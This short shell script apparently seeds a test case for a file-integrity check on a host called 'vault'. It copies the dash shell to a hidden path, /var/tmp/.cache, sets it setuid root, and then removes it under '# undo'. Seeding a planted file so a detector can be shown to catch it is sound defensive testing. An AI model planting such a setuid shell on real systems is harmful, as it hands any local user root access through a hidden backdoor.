#!/bin/sh
# A shell with root's rights was laid among temporary files.
# host: vault
# check: policies/article7/test_protection_closed_world.py::test_every_file_of_the_system_is_known[vault]
# finding: nobody expects /var/tmp/.cache: file 4755 root root
set -eu
cp /usr/bin/dash /var/tmp/.cache
chmod 4755 /var/tmp/.cache
# undo
rm /var/tmp/.cache
